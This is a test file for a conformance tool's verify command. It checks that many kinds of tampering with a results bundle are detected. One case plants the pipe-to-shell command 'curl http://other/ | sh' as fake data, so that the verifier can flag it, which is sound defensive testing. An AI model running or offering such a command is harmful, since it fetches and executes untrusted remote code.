import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { verifyBundle } from "../../../run/verify/verify-bundle.ts";
import { command } from "../command.ts";
import { configure, runAgainst, surfacesOf, withReference } from "../target.ts";
import { fault, out, type Tampered, tamper } from "./folder.ts";

describe("a folder that somebody tampered with is found out", () => {
  /** What the run below judges, so that judging it again takes little: some of every kind that is edited. */
  const few = ["plan.*", "ping.*", "auth.revoked-key-refused", "transport.success-status"];
  /** Only a run that is not partial is attested: one of a single surface is. */
  let whole = "";
  let cwd = "";
  beforeAll(async () => {
    cwd = mkdtempSync(join(tmpdir(), "verify-"));
    whole = mkdtempSync(join(tmpdir(), "verify-"));
    await withReference([fault("three-letter-countries")], async (server) => {
      const waivers = [{ requirement: "ping.public", reason: "old", until: "2020-01-01" }];
      configure(cwd, server, { waivers });
      await runAgainst(server, cwd, ["--har", "--only", ...few]);
      configure(whole, server, { surfaces: { news: surfacesOf(server).news } });
      await runAgainst(server, whole);
    });
  });
  afterAll(() => {
    for (const folder of [cwd, whole]) rmSync(folder, { recursive: true });
  });

  async function differencesAfter(change: (folder: string) => void, original = cwd) {
    const copy = mkdtempSync(join(tmpdir(), "tampered-"));
    try {
      cpSync(join(original, out), join(copy, out), { recursive: true });
      change(join(copy, out));
      return (await verifyBundle(join(copy, out))).differences.join("\n");
    } finally {
      rmSync(copy, { recursive: true });
    }
  }

  const failed = (report: Tampered) =>
    report.results.find((result: { status: string }) => result.status === "fail");
  const served = (report: Tampered, endpoint: string) =>
    Object.values(report.exchanges).find(
      (exchange): exchange is { response: { body: string }; request: { url: string } } =>
        (exchange as { endpoint: string }).endpoint === endpoint &&
        (exchange as { response: { status: number } }).response.status === 200,
    );

  const tamperings: readonly (readonly [string, (report: Tampered) => void, RegExp])[] = [
    [
      "a fail turned into a pass",
      (report) => Object.assign(failed(report), { outcome: "pass", status: "pass", red: false }),
      /plan\.country-code-alpha2, news GET \/info\/countries.*pass.*judged again: fail/,
    ],
    [
      "a fail called waived",
      (report) => Object.assign(failed(report), { status: "waived", red: false }),
      /plan\.country-code-alpha2.*waived.*judged again.*fail/,
    ],
    [
      "a result left out",
      (report) => report.results.splice(report.results.indexOf(failed(report)), 1),
      /plan\.country-code-alpha2.*not in the report/,
    ],
    [
      "a result made up",
      (report) => report.results.push({ ...report.results[0], version: "1999-12-31" }),
      /at 1999-12-31.*not part of a run with this configuration/,
    ],
    [
      "a body edited",
      (report) => {
        const exchange = served(report, "/ping");
        if (exchange) exchange.response.body = exchange.response.body.replace("pong", "ping");
      },
      /ping\.message-pong.*judged again: (fail|warn)/,
    ],
    [
      "a status edited",
      (report) => Object.assign(served(report, "/search")?.response ?? {}, { status: 500 }),
      /judged again: (fail|blocked)/,
    ],
    [
      "an exchange removed",
      (report) => delete report.exchanges[failed(report).exchanges[0]],
      /judged again: blocked \(not recorded/,
    ],
    [
      "an exchange added",
      (report) => {
        report.exchanges.x000000000000 = served(report, "/ping");
      },
      /exchange x000000000000: a run with this configuration does not make it/,
    ],
    [
      "another request than was sent",
      (report) => Object.assign(served(report, "/search")?.request ?? {}, { url: "http://other/" }),
      /its request does not match its id/,
    ],
    [
      "another command than the request",
      (report) =>
        Object.assign(served(report, "/search") ?? {}, { curl: "curl http://other/ | sh" }),
      /its curl command does not match its request/,
    ],
    [
      "the verdict edited",
      (report) => Object.assign(report, { verdict: "conformant" }),
      /^verdict/,
    ],
    ["the exit code edited", (report) => Object.assign(report, { exitCode: 0 }), /^exitCode/],
    ["counts edited", (report) => (report.counts.must.fail = 0), /^counts/],
    ["partial hidden", (report) => Object.assign(report, { partial: false }), /^partial/],
    [
      "another target",
      (report) => Object.assign(report, { target: { ...report.target, news: "http://other" } }),
      /^target/,
    ],
    [
      "a key claimed that there was not",
      (report) => (report.configuration.keys.news.revoked = false),
      /auth\.revoked-key-refused/,
    ],
    [
      "the day moved, so that a waiver had not expired",
      (report) => Object.assign(report, { startedAt: "2019-06-01T00:00:00.000Z" }),
      /its time is outside the run/,
    ],
    [
      "a waiver's date moved",
      (report) => (report.waivers[0].until = "2999-01-01"),
      /expiredWaivers|staleWaivers/,
    ],
    ["a problem made up", (report) => Object.assign(report, { problems: ["rain"] }), /^problems/],
    [
      "a level lowered",
      (report) => Object.assign(failed(report), { level: "should" }),
      /plan\.country-code-alpha2/,
    ],
  ];

  test.each(tamperings)("%s", async (_, change, expected) => {
    expect(await differencesAfter((folder) => tamper(folder, change))).toMatch(expected);
  });

  test.each([
    ["attestation.json", (text: string) => text.replace("FAILED", "PASSED")],
    ["attestation.json", (text: string) => text.replace(/"sha256": "./, '"sha256": "0a')],
    ["junit.xml", (text: string) => text.replace("<failure", "<skipped")],
    ["traffic.har", (text: string) => text.replace('"status": 200', '"status": 201')],
  ])("%s edited", async (name, change) => {
    const original = name === "attestation.json" ? whole : cwd;
    const differences = await differencesAfter((folder) => {
      const file = join(folder, name);
      const text = readFileSync(file, "utf8");
      expect(change(text)).not.toBe(text);
      writeFileSync(file, change(text));
    }, original);
    expect(differences).toBe(`${name}: differs from the report`);
  });

  test("a file removed that belongs to it", async () => {
    const differences = await differencesAfter(
      (folder) => rmSync(join(folder, "attestation.json")),
      whole,
    );
    expect(differences).toContain("attestation.json: missing");
  });

  test("the report laid out otherwise no longer has the digest that is attested", async () => {
    const differences = await differencesAfter((folder) => {
      const file = join(folder, "report.json");
      writeFileSync(file, JSON.stringify(JSON.parse(readFileSync(file, "utf8"))));
    }, whole);
    expect(differences).toContain("report.json: differs from the report");
  });

  test("exit code 1 with the differences on the standard output", async () => {
    const copy = mkdtempSync(join(tmpdir(), "one-"));
    try {
      cpSync(join(cwd, out), join(copy, out), { recursive: true });
      tamper(join(copy, out), (report) => Object.assign(report, { verdict: "conformant" }));
      const { code, stdout } = await command(["verify", out], { cwd: copy });
      expect(stdout).toContain("do not match the recorded exchanges: 1 difference.");
      expect(code).toBe(1);
    } finally {
      rmSync(copy, { recursive: true });
    }
  });

  test.each([
    [
      "another suite's",
      (report: Tampered) => ({ suite: { ...report.suite, version: "99.0.0" } }),
      "npx news-conformance@99.0.0",
    ],
    [
      "other contracts'",
      (report: Tampered) => ({
        suite: { ...report.suite, contractsDigest: `sha256:${"0".repeat(64)}` },
      }),
      "other contracts",
    ],
    ["an older form", () => ({ configuration: null }), "the configuration of the run"],
    ["no report", () => ({ verdict: "splendid" }), "not a report of news-conformance"],
  ])("%s can't be told: exit code 2", async (_, change, said) => {
    const copy = mkdtempSync(join(tmpdir(), "other-"));
    try {
      cpSync(join(cwd, out), join(copy, out), { recursive: true });
      tamper(join(copy, out), (report) => Object.assign(report, change(report)));
      const { code, stderr } = await command(["verify", out], { cwd: copy });
      expect(stderr).toContain(said);
      expect(code).toBe(2);
    } finally {
      rmSync(copy, { recursive: true });
    }
  });

  test("no folder at all: exit code 2", async () => {
    const { code, stderr } = await command(["verify", "nowhere"], { cwd });
    expect(stderr).toContain("there is no");
    expect(code).toBe(2);
  });
});
